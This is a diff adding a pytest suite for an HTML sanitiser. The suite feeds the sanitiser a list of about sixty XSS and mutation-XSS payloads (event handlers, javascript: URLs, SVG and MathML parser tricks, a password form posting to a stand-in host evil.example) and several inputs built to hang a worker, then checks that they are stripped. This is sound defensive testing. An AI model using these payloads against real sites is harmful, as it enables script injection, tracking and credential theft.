@@ -1,0 +1,184 @@
+"""HTML from outside: nothing in it runs, loads by itself in our pages, or takes more than its share of time."""
+
+import re
+
+import nh3
+import pytest
+
+from tickets import html
+
+# What has got through other sanitisers, and what a browser might make of it.
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
+    "<script\x20type='text/javascript'>alert(1)</script\t\n bogus>",
+    "<<script>alert(1)//<</script>",
+    "<img src=x onerror=alert(1)>",
+    "<img src='x' onerror\x0c=\x0calert(1)>",
+    "<img/src/onerror=alert(1)>",
+    "<img src=`x`onerror=alert(1)>",
+    '<img src="javascript:alert(1)">',
+    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
+    '<img srcset="https://evil.example/pixel.gif 1x">',
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
+    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
+    "<math><a xlink:href='javascript:alert(1)'>x</a></math>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
+    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<template><img src=x onerror=alert(1)></template>",
+    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
+    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
+    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<a href='JaVaScRiPt&#58;alert(1)'>x</a>",
+    "<a href='java\tscript:alert(1)'>x</a>",
+    "<a href='&#1;javascript:alert(1)'>x</a>",
+    "<a href=' &#14; javascript:alert(1)'>x</a>",
+    "<a href='vbscript:msgbox(1)'>x</a>",
+    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
+    "<a href='/admin/logout/'>x</a>",
+    "<a href='//evil.example/'>x</a>",
+    "<a href='https://good.example' target='_top' onclick='alert(1)' style='position:fixed;inset:0'>x</a>",
+    "<body onload=alert(1) background='https://evil.example/pixel.gif'>x",
+    "<table background='javascript:alert(1)'><tr><td background='https://evil.example/p.gif'>x</td></tr></table>",
+    "<div style='background:url(https://evil.example/pixel.gif)'>x</div>",
+    "<div style='width:expression(alert(1))'>x</div>",
+    "<style>@import 'https://evil.example/x.css'; body{background:url(javascript:alert(1))}</style>",
+    "<link rel=stylesheet href='https://evil.example/x.css'>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<base href='https://evil.example/'>",
+    "<iframe src='javascript:alert(1)'></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data='javascript:alert(1)'></object>",
+    "<embed src='https://evil.example/x.swf'>",
+    "<applet code=x></applet>",
+    "<form action='https://evil.example/'><input name=password><button formaction='javascript:alert(1)'>x</button>",
+    "<isindex action=javascript:alert(1) type=submit>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<input autofocus onfocus=alert(1)>",
+    "<!--<img src='--><img src=x onerror=alert(1)//'>",
+    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
+    "<![CDATA[<img src=x onerror=alert(1)>]]>",
+    "<?xml version='1.0'?><?php echo 1 ?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
+    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
+    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "<p id=content name=csrfmiddlewaretoken class='cc-dialog'>x</p>",
+    "<b title='&quot;&gt;&lt;img src=x onerror=alert(1)&gt;'>x</b>",
+]
+_TAG = re.compile(r"<(/?)([a-z0-9]+)((?:\s+[a-z]+=\"[^\"]*\")*)\s*/?>")
+_ATTRIBUTE = re.compile(r"\s+([a-z]+)=\"([^\"]*)\"")
+_KNOWN = {"align", "dir", "lang", "title", "href", "rel", "span", "width", "color", "size", "alt", "height", "src"}
+_KNOWN |= {"start", "border", "cellpadding", "cellspacing", "colspan", "rowspan", "valign"}
+
+
+@pytest.mark.parametrize("markup", HOSTILE)
+def test_nothing_hostile_is_left(markup: str) -> None:
+    for wrapped in (markup, f"<table><tr><td>{markup}", f"<b><i>{markup}", f"<p title='{markup}'>"):
+        cleaned = html.clean(wrapped)
+
+        # Every < begins a tag that we know, with attributes that we know, whose addresses lead where they may.
+        assert cleaned.count("<") == len(_TAG.findall(cleaned))
+        for _end, tag, attributes in _TAG.findall(cleaned):
+            assert tag in nh3.ALLOWED_TAGS | {"font", "tt", "center", "big"}
+            for name, value in _ATTRIBUTE.findall(attributes):
+                assert name in _KNOWN
+                if name in ("href", "src"):
+                    assert re.match(r"https?://|mailto:|tel:|cid:", value)
+        # What a browser would make of it is cleaned already.
+        assert html.clean(cleaned) == cleaned
+
+
+def test_what_people_write_is_kept() -> None:
+    markup = (
+        '<h1>Zażółć</h1><p dir="rtl">a <b>b</b> <i>c</i> <u>d</u> <font color="red" size="2">e</font></p>'
+        '<ul><li>x</li></ul><ol start="3"><li>y</li></ol><blockquote>q</blockquote><pre>z</pre>'
+        '<table border="1"><tbody><tr><td colspan="2" width="10">t</td></tr></tbody></table>'
+        '<img src="cid:logo@x" alt="Logo" width="10"><hr>'
+    )
+
+    assert html.clean(markup) == markup
+    assert html.clean('<a href="https://x.example/?a=1&b=2">x</a>') == (
+        '<a href="https://x.example/?a=1&amp;b=2" rel="noopener noreferrer nofollow">x</a>'
+    )
+
+
+def test_images_from_elsewhere_are_left_to_who_shows_them_and_nothing_else_is_loaded() -> None:
+    markup = "<img src='https://evil.example/pixel.gif' width=1><img src='file:///etc/passwd'><img src='pixel.gif'>"
+
+    assert html.clean(markup) == '<img src="https://evil.example/pixel.gif" width="1"><img><img>'
+
+
+def nested(count: int) -> str:
+    return "<div>" * count + "deep"
+
+
+def reopened(count: int) -> str:
+    """A few kilobytes of which a browser makes megabytes: each paragraph opens again what the first has not closed."""
+    return "<p>" + "".join(f"<font size={each}>" for each in range(count)) + "</p>" + "<p>x</p>" * count
+
+
+@pytest.mark.parametrize(
+    "markup",
+    [
+        nested(1_000_000),
+        nested(100_000),
+        reopened(20_000),
+        "<p>text</p>" * 1_900_000,
+        "<" * 5_000_000,
+        "<style>" * 500_000,
+        "<!--" * 500_000,
+        "<a b='" * 300_000,
+        "<p " + "a=1 " * 400_000,
+        "&amp" * 1_000_000,
+        "<table><b>" * 30_000,
+        "<select><option>" * 60_000,
+    ],
+)
+def test_html_that_is_made_to_hang_a_worker_comes_to_an_end(markup: str) -> None:
+    # Its limits are of processor time and memory, in a process of its own; without them the first takes an hour.
+    cleaned = html.clean(markup)
+
+    assert len(cleaned) <= html.LONGEST
+    assert "<script" not in cleaned
+
+
+def test_what_cannot_be_cleaned_is_kept_as_its_text() -> None:
+    hidden = "<style>p{}</style><script>alert(1)</script>"
+
+    assert html.clean(f"{hidden}<p>one</p>&lt;b&gt;" + nested(100_000)) == "one<br>\n&lt;b&gt;deep"
+    assert html.clean("deep<style>" + nested(1_000_000)) == "deep"
+
+
+def test_a_large_mail_of_a_person_keeps_its_form() -> None:
+    markup = (
+        '<table><tbody><tr><td><b>Zażółć</b> <a href="https://x.example/">x</a></td></tr></tbody></table>\n' * 8_000
+    )
+
+    cleaned = html.clean(markup)
+
+    assert cleaned.count("<b>Zażółć</b>") == 8_000
+
+
+def test_cleaning_a_mail_of_30_kb_is_no_work_for_another_process(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(html, "_clean_apart", None)
+    row = (
+        '<tr><td style="padding:4px"><p class="x"><font size=2>a <b>b</b></font> <a href="https://x.example">c</a></p>'
+    )
+
+    assert html.clean(f"<table>{row * 250}</table>").count("<b>") == 250
+
+
+def test_text_becomes_html_and_html_text() -> None:
+    assert html.from_text("a < b\nc") == "a &lt; b<br>\nc"
+    assert html.as_text("<p>a &lt; b</p><p>c<br>d</p>") == "a < b\nc\nd"
+    assert html.says_nothing("<p>&nbsp;<br></p>")
+    assert not html.says_nothing('<img src="cid:x">')
